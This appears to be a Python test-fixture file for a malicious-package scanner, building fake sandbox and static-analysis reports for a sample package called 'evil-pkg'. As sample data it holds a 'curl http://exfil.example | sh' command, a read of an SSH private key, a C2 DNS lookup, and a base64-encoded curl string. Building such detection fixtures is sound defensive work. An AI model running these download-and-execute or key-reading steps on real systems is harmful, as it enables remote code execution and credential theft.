"""Hand-written documents in the exact shapes the pipeline stores (OSSF dynamic and static, pkgtrace report)."""

import base64


def dynamic_doc(name="evil-pkg", version="1.0.0", ecosystem="pypi"):
    return {
        "Package": {"Ecosystem": ecosystem, "Name": name, "Version": version},
        "CreatedTimestamp": 1764000000,
        "Analysis": {
            "install": {
                "Status": "completed",
                "Stdout": base64.b64encode(b"installed\n").decode(),
                "Stderr": "",
                "Files": [{"Path": "/root/.ssh/id_rsa", "Read": True, "Write": False, "Delete": False},
                          {"Path": "/tmp/payload.sh", "Read": False, "Write": True, "Delete": True}],
                "Sockets": [{"Address": "203.0.113.7", "Port": 443, "Hostnames": ["exfil.example", "cdn.example"]}],
                "Commands": [{"Command": ["sh", "-c", "curl http://exfil.example | sh"], "Environment": ["HOME=/root"]}],
                "DNS": [{"Class": "IN", "Queries": [{"Hostname": "exfil.example", "Types": ["A", "AAAA"]}]}],
            },
            "import": {"Status": "completed", "Stdout": "", "Stderr": "", "Files": [], "Sockets": [],
                       "Commands": [], "DNS": []},
            "execute": {"Status": "error_timeout", "Stdout": "", "Stderr": "", "Files": [], "Sockets": [],
                        "Commands": [{"Command": ["python3", "-c", "import evil"], "Environment": []}],
                        "DNS": [{"Class": "IN", "Queries": [{"Hostname": "c2.example", "Types": ["TXT"]}]}]},
        },
    }


def static_doc(name="evil-pkg", version="1.0.0", ecosystem="pypi"):
    return {
        "schema_version": "1.0", "ecosystem": ecosystem, "name": name, "version": version,
        "created": "2025-11-24T12:00:00Z",
        "results": {"files": [
            {"filename": "setup.py", "detected_type": "text/x-python", "size": 812, "sha256": "ab" * 32,
             "line_lengths": [{"value": 80, "count": 3}],
             "urls": ["http://exfil.example/x"], "ip_addresses": ["203.0.113.7"],
             "base64_strings": ["Y3VybCBodHRwOi8vZXhmaWwuZXhhbXBsZQ=="], "hex_strings": [],
             "escaped_strings": [{"value": "A", "raw": "\\x41", "levenshtein_dist": 3}],
             "suspicious_identifiers": [{"name": "_0xabc", "rule": "hex"}],
             "pkgtrace_extra": {"not": "in OSSF's schema"}},
            {"filename": "README.md", "detected_type": "text/markdown", "size": 10, "sha256": "cd" * 32},
        ]},
    }


def report_doc(name="evil-pkg", version="1.0.0", ecosystem="pypi", label="malicious"):
    return {
        "schema_version": "pkgtrace-report/1",
        "package": {"ecosystem": ecosystem, "name": name, "version": version},
        "artifact": {"filename": f"{name}-{version}.tar.gz", "sha256": "ef" * 32, "url": "https://files.example/x",
                     "local": False},
        "created": 1764000000, "timings": {"static_s": 1.5, "dynamic_s": 41.0},
        "verdict": {"schema_version": "pkgtrace-verdict/1", "score": 0.97, "label": label,
                    "evidence": {"static": True, "dynamic": True, "metadata": False, "code_files": 3},
                    "findings": [
            {"rule": "dynamic.bait_read", "severity": "critical", "message": "read the planted SSH key",
             "source": "dynamic", "evidence": {"path": "/root/.ssh/id_rsa", "phase": "install"}},
            {"rule": "static.curl_pipe_sh", "severity": "high", "message": "downloads and runs a script",
             "source": "static", "evidence": {"file": "setup.py", "line": 12}}]},
    }


def all_docs(**kw):
    return {"dynamic": dynamic_doc(**kw), "static": static_doc(**kw), "report": report_doc(**kw)}


def dynamic_section(phases: dict, processes=()) -> dict:
    """report.json's `dynamic` section around PHASES ({phase: its extra keys}): a whole one, as the
    consumers read it through the typed model."""
    return {"sandbox": {"image": "test", "limits": {"phase_seconds": 60, "memory_bytes": 1 << 30,
                                                    "processes": 64, "disk_bytes": 1 << 30}},
            "phases": {k: {"status": "completed", **v} for k, v in phases.items()}, "processes": list(processes)}


def static_section(name="evil-pkg", version="1.0.0", **parts) -> dict:
    """report.json's `static` section, whole, with PARTS (install_hooks, signals, …) in place."""
    return {"archive": {"kind": "sdist-gzip", "container": "gzip", "filename": f"{name}-{version}.tar.gz",
                        "size": 1000, "sha256": "ef" * 32},
            "extraction": {"status": "ok", "files": 2, "total_bytes": 822, "errors": [], "notes": [], "links": [],
                           "limits": {"max_total_bytes": 1 << 30, "max_files": 100000, "max_ratio": 100.0}},
            "summary": {"files": 2, "parsed_files": 1, "files_with_syntax_errors": 0, "bytes": 822,
                        "languages": {"python": 1}, "signals": {}},
            "install_hooks": [], "signals": [], "calls": {}, "files": [], "truncated": {}, **parts}
